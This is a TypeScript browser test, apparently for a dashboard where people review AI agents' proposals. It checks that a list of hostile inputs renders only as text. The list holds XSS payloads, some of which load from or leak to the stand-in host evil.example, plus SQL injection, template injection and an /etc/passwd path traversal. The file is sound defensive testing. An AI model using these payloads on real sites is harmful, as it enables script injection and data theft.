import type { JsonObject, Proposal } from '@preceptor/client'
import { describeWithChromium } from '@preceptor/test-setup'
import type { Page } from 'playwright-core'
import { expect, it } from 'vitest'
import { useBrowser } from './browser.ts'
import { useStage } from './stage.ts'

/** Each would call `ran()`, or ask `evil.example` for something, were it anything but text. */
const HOSTILE: readonly string[] = [
  '<script>ran()</script>',
  '</script><script>ran()</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=ran()>',
  '<img src="https://evil.example/a.png">',
  '<svg/onload=ran()>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><script>ran()</script></svg>',
  '<math><mtext></p><img src=x onerror=ran()></mtext></math>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src=javascript:parent.ran()>',
  '<object data="data:text/html,<script>ran()</script>">',
  '<embed src=//evil.example/x.swf>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>body{background:url(//evil.example/bg)}</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<body onload=ran()>',
  '<details open ontoggle=ran()>x</details>',
  '<input autofocus onfocus=ran()>',
  '<video><source onerror=ran()></video>',
  '<form action=//evil.example><button>Approve</button></form>',
  '<a href="javascript:ran()">click</a>',
  '<a href=//evil.example ping=//evil.example/ping>x</a>',
  '"><img src=x onerror=ran()>',
  "'-ran()-'",
  '";ran();//',
  '`$' + '{ran()}`',
  '{{constructor.constructor("ran()")()}}',
  '$' + '{{<%[%\'"}}%\\.',
  'javascript:ran()',
  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
  '![x](https://evil.example/leak.png)',
  '[x](javascript:ran())',
  '<!--><script>ran()</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<template><script>ran()</script></template>',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '%3Cscript%3Eran()%3C/script%3E',
  '\u003cscript\u003eran()\u003c/script\u003e',
  '<scr\u0000ipt>ran()</scr\u0000ipt>',
  '\u202e>tpircs/<()nar>tpircs<',
  'a\u200b\u200c\u200d\u2060\ufeffb',
  '\u001b[2J\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
  'Z\u0351\u036b\u0343\u036aa\u0328\u0321lgo',
  '\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67 \ud83c\udff4',
  '\ufdfa \u0bf5 \u1f4a9 \uffff',
  "'; DROP TABLE proposals; --",
  '../../../../etc/passwd\u0000',
  '__proto__',
  'constructor',
  'NaN',
  'undefined',
  '-1e309',
  '\u0130\u0131 \u1e9e \u00df',
]
const PER_PROPOSAL = 14

describeWithChromium('what an agent wrote', () => {
  const stage = useStage()
  const browser = useBrowser()

  /** Proposals whose every field is hostile. */
  async function askHostile(): Promise<readonly Proposal[]> {
    const proposals: Proposal[] = []
    for (let from = 0; from < HOSTILE.length; from += PER_PROPOSAL) {
      const part = HOSTILE.slice(from, from + PER_PROPOSAL).map((text) => text.replaceAll('\u0000', ''))
      const [first = '', second = ''] = part
      const args: JsonObject = Object.fromEntries(part.map((text, index) => [`${index} ${text}`, text]))
      const context = { thought: part.join('\n'), nested: [{ [second]: second }] }
      proposals.push(await stage.ask({ action: 'note.write', args: { ...args, list: part }, context, resource: first }))
      proposals.push(await stage.ask({ action: 'mail.send', args: { body: part.join(' ') } }))
      await stage.ben.proposals.comment(proposals.at(-1)?.id ?? '', part.join(' ').slice(0, 900))
    }
    return proposals
  }

  /** Notes each script that runs, each dialog, and each request that leaves. */
  async function watch(page: Page): Promise<string[]> {
    const noted: string[] = []
    await page.exposeFunction('ran', () => void noted.push('a script ran'))
    page.on('dialog', (dialog) => {
      noted.push(`a dialog said ${dialog.message()}`)
      void dialog.dismiss()
    })
    const { origin } = new URL(page.url())
    page.on('request', (request) => {
      const { protocol, origin: to } = new URL(request.url())
      if (protocol !== 'data:' && to !== origin) noted.push(`it asked ${request.url()}`)
    })
    page.on('popup', (popup) => void noted.push(`it opened ${popup.url()}`))
    return noted
  }

  it('runs nowhere on the page, asks nobody for anything, and stands there as text [I-29, I-37, DASH-6]', {
    timeout: 120_000,
  }, async () => {
    await stage.test.admin.agents.change('billing-bot', { displayName: HOSTILE[3] ?? '' })
    const proposals = await askHostile()
    const page = await browser.signedIn(`${stage.mounts.deep}/inbox`, stage.keys.ana)
    const noted = await watch(page)
    for (const path of ['inbox', ...proposals.map(({ id }) => `inbox/${id}`)]) {
      await page.goto(`${stage.mounts.deep}/${path}`)
      await page.getByRole('navigation', { name: 'Pages' }).waitFor()
      if (path === 'inbox') continue
      await page.getByRole('heading', { level: 2 }).waitFor()
      for (const tab of await page.getByRole('tab').all()) await tab.click()
      expect(await page.locator(MARKUP).count()).toBe(0)
      expect(await page.title()).toBe('Preceptor')
    }
    await page.keyboard.press('e')
    await page.getByRole('form').waitFor()
    expect(await page.locator(MARKUP).count()).toBe(0)
    expect(noted).toEqual([])
  })
})

const MARKUP =
  'main :is(img, script, iframe, object, embed, style, link, base, meta, video, math, template), a[href^="javascript"], a[href*="evil"], [onerror], [onload], [onfocus]'
